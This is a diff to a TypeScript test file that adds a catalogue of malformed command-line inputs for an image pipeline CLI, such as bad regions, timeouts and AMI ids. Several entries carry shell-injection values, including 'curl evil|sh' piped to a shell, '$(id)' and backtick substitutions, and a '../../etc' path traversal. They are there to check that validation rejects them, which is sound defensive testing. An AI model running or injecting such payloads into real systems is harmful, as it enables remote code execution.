@@ -9,6 +9,7 @@ import { CreateStackCommand, CloudFormationClient } from '@aws-sdk/client-cloudf
 import { PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
 import { runAction, snapshotAws, startMoto, type AwsSnapshot, type Moto } from '@img-mgr/testbed';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runCli } from './helpers.js';
 
 const fixtures = join(fileURLToPath(new URL('.', import.meta.url)), 'fixtures');
 const GOOD_AMI = 'ami-0123456789abcdef0';
@@ -18,6 +19,14 @@ interface BadInput {
   why: string;
   inputs: Record<string, string>;
   /** The input the error line must name. */
+  names: string;
+}
+
+/** A bad command line of the pipeline CLI (img-mgr-pipeline), run against the test's moto with --endpoint. */
+interface BadCommandLine {
+  why: string;
+  args: string[];
+  /** The flag the error line must name. */
   names: string;
 }
 
@@ -77,13 +86,28 @@ export const CATALOGUE: BadInput[] = [
   deploy('a termination-protection that is not a boolean', 'termination-protection', { 'termination-protection': 'maybe' }),
   bake('a template that does not exist', 'template', { template: 'no-such-template.pkr.hcl' }),
   bake('a variable without a value', 'variables', { template: join(fixtures, 'one-parameter.yaml'), variables: 'flask_repo' }),
-  bake('a flask_repo with shell metacharacters', 'variables', {
-    template: join(fixtures, 'one-parameter.yaml'),
-    variables: 'flask_repo=https://github.com/me/app.git;curl evil|sh',
-  }),
+  // bake-ami hands variables to Packer as arguments (no shell) and the template validates flask_repo
+  // (packer/variables.pkr.hcl); the CLI's --flask-repo entries below check the metacharacters.
+  bake('a variable that bake-ami sets itself', 'variables', { template: join(fixtures, 'one-parameter.yaml'), variables: 'run_id=mine' }),
+  bake('a packer-version with a shell payload', 'packer-version', { 'packer-version': '1.11.2; curl evil | sh' }),
   bake('a negative build timeout', 'timeout', { timeout: '-5m' }),
   bake('a force that is not a boolean', 'force', { force: 'perhaps' }),
   bake('an unknown region', 'region', { region: 'xx-1' }),
+];
+
+export const CLI_CATALOGUE: BadCommandLine[] = [
+  { why: 'an unknown region', names: '--region', args: ['run', '--region', 'mars-east-1'] },
+  { why: 'a truncated region', names: '--region', args: ['bake', '--region', 'us-east'] },
+  { why: 'a flask-repo with a command separator and a pipe', names: '--flask-repo', args: ['run', '--flask-repo', 'https://github.com/me/app.git;curl evil|sh'] },
+  { why: 'a flask-repo with a command substitution', names: '--flask-repo', args: ['bake', '--flask-repo', 'https://github.com/$(id)/app.git'] },
+  { why: 'a flask-repo with backticks', names: '--flask-repo', args: ['run', '--flask-repo', 'https://github.com/`id`/app.git'] },
+  { why: 'a flask-repo that is not https', names: '--flask-repo', args: ['run', '--flask-repo', 'git@github.com:me/app.git'] },
+  { why: 'a negative timeout', names: '--timeout', args: ['run', '--timeout', '-5m'] },
+  { why: 'a zero timeout', names: '--timeout', args: ['deploy', '--timeout', '0'] },
+  { why: 'a flask-ref that walks up', names: '--flask-ref', args: ['run', '--flask-ref', '../../etc'] },
+  { why: 'a parameter name under /aws', names: '--parameter-name', args: ['publish', '--parameter-name', '/aws/golden', '--ami-id', GOOD_AMI] },
+  { why: 'an AMI id of another resource type', names: '--ami-id', args: ['publish', '--ami-id', 'snap-0123456789abcdef0'] },
+  { why: 'a stack name with an underscore', names: '--app-stack', args: ['deploy', '--app-stack', 'img_mgr'] },
 ];
 
 describe('bad-input catalogue', () => {
@@ -108,9 +132,10 @@ describe('bad-input catalogue', () => {
     await moto.stop();
   });
 
-  it('has at least 30 entries across the three actions', () => {
-    expect(CATALOGUE.length).toBeGreaterThanOrEqual(30);
+  it('has at least 30 entries across the three actions and the CLI', () => {
+    expect(CATALOGUE.length + CLI_CATALOGUE.length).toBeGreaterThanOrEqual(30);
     expect(new Set(CATALOGUE.map((entry) => entry.action)).size).toBe(3);
+    expect(new Set(CLI_CATALOGUE.map((entry) => entry.names))).toContain('--flask-repo');
   });
 
   it.each(CATALOGUE.map((entry) => [`${entry.action}: ${entry.why}`, entry] as const))('%s', async (_title, entry) => {
@@ -119,6 +144,17 @@ describe('bad-input catalogue', () => {
     expect(run.errors, run.log).toHaveLength(1);
     expect(run.errors[0]).toContain(`'${entry.names}'`);
     expect(run.log, 'no stack trace').not.toMatch(/^\s+at .+\(.+:\d+:\d+\)$/m);
+    expect(await snapshotAws(moto.clientConfig)).toEqual(before);
+  });
+
+  it.each(CLI_CATALOGUE.map((entry) => [`img-mgr-pipeline: ${entry.why}`, entry] as const))('%s', async (_title, entry) => {
+    const run = await runCli([...entry.args, '--endpoint', moto.endpoint], { timeoutMs: 30_000 });
+    expect(run.exitCode, run.stderr).not.toBe(0);
+    expect(run.stdout).toBe('');
+    const lines = run.stderr.split('\n').filter((line) => line.trim() !== '');
+    expect(lines, run.stderr).toHaveLength(1);
+    expect(lines[0]).toMatch(new RegExp(`^img-mgr-pipeline: error: ${entry.names} `));
+    expect(run.stderr, 'no stack trace').not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
     expect(await snapshotAws(moto.clientConfig)).toEqual(before);
   });
 });
